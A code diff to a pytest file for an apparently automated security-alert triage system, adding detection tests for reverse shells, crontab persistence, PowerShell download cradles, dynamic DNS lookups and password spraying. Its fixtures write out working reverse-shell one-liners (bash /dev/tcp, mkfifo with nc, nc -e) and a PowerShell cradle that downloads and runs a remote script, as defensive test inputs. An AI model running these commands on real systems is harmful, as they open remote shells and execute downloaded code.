@@ -1514,6 +1514,9 @@ def test_a_pan_os_threat_log_says_what_the_firewall_recognised_and_whether_it_st
     ("Only the index rebuild (CHG-88213) is approved this weekend.", "restricts"),
     ("The key is used by nightly jobs; it has no business reading payment secrets. No human uses this key.",
      "denies"),
+    ("Backups go to the on-premises repository. Nobody uses Dropbox or any other file-sharing service from it.",
+     "denies"),  # "or any other" extends the denial; it excepts nothing
+    ("Nobody uses RDP from any other host than the jump host.", "explains"),  # the excepted host is approved
 ])
 def test_a_note_that_states_a_rule_approves_no_event(customer, body, reads):
     """`context_restricts`: who may act, from where, on what condition — a rule, not an approval: it
@@ -1594,8 +1597,7 @@ def test_an_office_document_starting_a_shell_ran_code(parent, ran):
     alert = _elastic(f"macro-{ran}", "Suspicious PowerShell Launched by Office", "T1566.001", "medium",
                      event={"kind": "signal", "category": ["process"], "type": ["start"]}, host={"name": "fin-lt-22"},
                      process={"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                              "command_line": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
-                                              ".DownloadString('http://203.0.113.71/q4/inv.ps1')\"",
+                              "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                               "parent": {"executable": parent}})
     threat, = _ingest("ecs", alert)
     assert ("document_ran_code" in [f.get("rule") for f in threat.risk_factors]) is ran
@@ -2283,3 +2285,93 @@ def test_an_approved_scan_settled_at_low_keeps_its_contradiction_on_the_threat_n
     assert threat.severity == "LOW" and threat.false_positive["recommendation"] == "likely_benign_true_positive"
     assert threat.adversarial["contradictions"]  # recorded on the threat
     assert not any(r.startswith("conflicting_evidence") for r in threat.review_reasons)
+
+
+def _audit_command(args, cwd="/var/www/html/wp-content/uploads", uid="33"):
+    """Wazuh's auditd command rule (80792) for an EXECVE of `args`."""
+    execve = {"argc": str(len(args)), **{f"a{i}": arg for i, arg in enumerate(args)}}
+    return _wazuh_alert("au-1", "80792", 3, "Audit: Command: /usr/bin/bash.", ["audit", "audit_command"],
+                        agent="web-01", decoder={"name": "auditd"},
+                        data={"audit": {"type": "EXECVE", "uid": uid, "euid": uid, "exe": "/usr/bin/bash",
+                                        "cwd": cwd, "execve": execve}})
+
+
+@pytest.mark.parametrize("command,wired", [
+    ("bash -i >& /dev/tcp/203.0.113.45/443 0>&1", True),
+    ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.45 4444 > /tmp/f", True),
+    ("nc -e /bin/sh 203.0.113.45 4444", True),
+    ("echo > /dev/tcp/10.0.0.5/5432 && echo open 2>&1", False),  # a port probe: nothing wired to the socket
+])
+def test_a_shell_wired_to_a_network_socket_is_a_reverse_shell(command, wired):
+    threat, = _ingest("wazuh", _audit_command(["bash", "-c", command]))
+    assert ("T1059.004" in _techniques(threat)) is wired
+    assert threat.severity in (("HIGH", "CRITICAL") if wired else ("LOW", "MEDIUM"))
+
+
+@pytest.mark.parametrize("owner,band", [("www-data", "HIGH"), ("backup", "MEDIUM")])
+def test_a_crontab_installed_is_scheduled_persistence_and_by_the_web_account_a_web_shell(owner, band):
+    alert = _wazuh_alert("cr-1", "2832", 5, "Crontab entry changed.", ["syslog", "cron"], agent="web-01",
+                         decoder={"name": "cron"}, data={"dstuser": owner},
+                         full_log=f"Dec  4 02:21:30 web-01 crontab[40502]: ({owner}) REPLACE ({owner})")
+    threat, = _ingest("wazuh", alert)
+    assert "T1053.003" in _techniques(threat)
+    assert threat.severity == band
+
+
+def test_powershell_that_invokes_what_it_downloads_from_a_bare_address_ran_it():
+    cradle = ("powershell.exe -nop -w hidden -c \"iex (New-Object Net.WebClient)"
+              ".DownloadString('http://203.0.113.58/u/upd.ps1')\"")
+    alert = _wazuh_alert("ps-1", "92057", 12, "Powershell executed a download cradle",
+                         ["sysmon", "sysmon_eid1_detections", "windows"], agent="ws-7",
+                         data={"win": {"system": {"eventID": "1", "channel": "Microsoft-Windows-Sysmon/Operational"},
+                                       "eventdata": {"image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                                                     "commandLine": cradle, "parentImage": "C:\\Windows\\explorer.exe",
+                                                     "user": "CORP\\j.marsh"}}})
+    threat, = _ingest("wazuh", alert)
+    assert {"T1105", "T1059.001"} <= set(_techniques(threat))
+    assert threat.severity in ("HIGH", "CRITICAL")
+
+
+@pytest.mark.parametrize("signature,severity,band", [
+    ("ET INFO DYNAMIC_DNS Query to *.duckdns. Domain", 3, "MEDIUM"),
+    ("ET INFO Observed DNS Query to .cloud TLD", 3, "LOW"),  # a name, not a provider where C2 lives
+])
+def test_a_lookup_of_a_free_dynamic_dns_name_is_worth_a_look(signature, severity, band):
+    threat, = _ingest("suricata", _eve(signature, "Misc activity", "10.61.2.23", "10.61.0.53", severity=severity))
+    assert threat.severity == band
+    assert ("T1568" in _techniques(threat)) is (band == "MEDIUM")
+
+
+def _logon_failure(user, ref=None):
+    return _wazuh_alert(ref or f"f-{user}", "60122", 5, "Logon Failure - Unknown user or bad password",
+                        ["windows", "windows_security", "authentication_failed"], agent="jump-01",
+                        data={"win": {"system": {"eventID": "4625", "channel": "Security"},
+                                      "eventdata": {"targetUserName": user, "ipAddress": "10.20.240.87",
+                                                    "logonType": "10"}}})
+
+
+def _failures_rule(accounts, ref):
+    """Wazuh's composite rule 60204 with its earlier 4625 events in previous_output."""
+    import json
+
+    return _logon_failure(accounts[-1], ref) | {
+        "rule": {"level": 10, "id": "60204", "description": "Multiple Windows Logon Failures",
+                 "groups": ["windows", "authentication_failures"]},
+        "previous_output": "\n".join(json.dumps(_logon_failure(user)["data"]) for user in accounts)}
+
+
+def test_failures_on_one_account_are_not_a_spray():
+    threat, = _ingest("wazuh", _failures_rule(["ext-fe1"] * 5, "one"))
+    assert "password_spraying" not in [b["name"] for b in threat.signal["behaviours"]]
+
+
+def test_failures_on_many_accounts_from_one_source_are_a_spray_history_cannot_explain(customer, alice):
+    for day in range(3):  # analysts closed the same rule on this host as one contractor mistyping his password
+        factories.ingest_records("wazuh", [_failures_rule(["ext-fe1"] * 3, f"h-{day}")], customer)
+        _closed(alice, Threat.objects.filter(customer=customer).latest("received_at"), "false_positive", 24 * (day + 1))
+    factories.ingest_records("wazuh", [_failures_rule(["a.patel", "ot-eng01", "scada.admin", "administrator",
+                                                       "m.osei", "j.whitfield"], "spray")], customer)
+    threat = Threat.objects.filter(customer=customer).latest("received_at")
+    assert "T1110.003" in _techniques(threat)
+    assert threat.severity == "MEDIUM"
+    assert threat.false_positive["recommendation"] not in ("likely_false_positive", "likely_benign_true_positive")
